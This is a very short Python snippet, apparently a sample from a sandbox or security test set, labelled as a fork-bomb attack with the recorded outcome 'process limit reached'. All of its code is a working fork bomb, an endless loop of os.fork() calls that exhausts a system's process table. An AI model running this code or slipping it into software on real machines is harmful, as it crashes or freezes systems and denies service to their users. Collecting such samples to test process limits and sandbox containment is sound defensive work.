# attack: a fork bomb
# verdict: process limit reached
import os

while True:
    os.fork()
